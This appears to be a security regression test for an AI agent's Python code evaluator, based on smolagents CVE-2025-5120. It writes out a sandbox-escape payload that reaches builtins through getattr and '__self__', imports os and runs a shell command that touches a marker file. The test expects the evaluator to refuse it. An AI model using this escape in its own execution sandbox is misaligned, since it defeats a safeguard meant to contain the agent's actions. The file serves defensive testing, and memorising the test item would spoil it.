# category: advisories
# signal: marker
# expect: refused
# tripwire: stops os.system
# source: smolagents CVE-2025-5120: builtins returned as plain values were callable without the evaluator's checks
calls = [getattr, vars, type]
module = calls[0](len, "__self__")
calls[0](module, "__import__")("os").system("touch {MARKER_PATH}")
